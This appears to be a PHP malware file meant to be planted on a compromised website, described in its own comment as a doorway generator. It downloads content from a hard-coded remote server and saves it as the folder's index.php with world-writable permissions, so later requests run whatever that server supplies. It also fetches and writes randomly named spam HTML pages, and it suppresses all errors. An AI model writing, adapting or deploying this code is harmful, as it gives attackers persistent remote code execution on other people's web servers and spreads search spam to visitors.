<?php
// A planted doorway generator: it asks a remote server for a page made for this site and saves the
// answer as the folder's index.php (the next visit runs whatever that server sent), plus a few
// static spam pages. Both the download and the write sit in small helpers.
error_reporting(0);
$panel = "http://203.0.113.77";
$here = str_replace("index.php", "", 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);

function fetch_page($url)
{
    $opts = array('http' => array('method' => "GET", 'timeout' => 8));
    $context = stream_context_create($opts);
    $html = file_get_contents($url, false, $context);
    if (empty($html)) {
        $html = file_get_contents($url);
    }
    return $html;
}

function store_file($path, $data, $method = 'wb', $lock = 1)
{
    if ($fp = @fopen($path, $method)) {
        if ($lock) {
            @flock($fp, LOCK_EX);
        }
        fwrite($fp, $data);
        fclose($fp);
        chmod($path, 0777);
        return true;
    }
    return false;
}

$page = fetch_page($panel . "/tpl.asp?type=index.php&host=" . $here);
store_file("index.php", $page);
echo $page;
for ($i = 0; $i < 2; $i++) {
    $name = "forum-" . mt_rand(100, 99999);
    store_file($name . ".html", fetch_page($panel . "/tpl.asp?host=" . $here . "&html_name=" . $name));
}
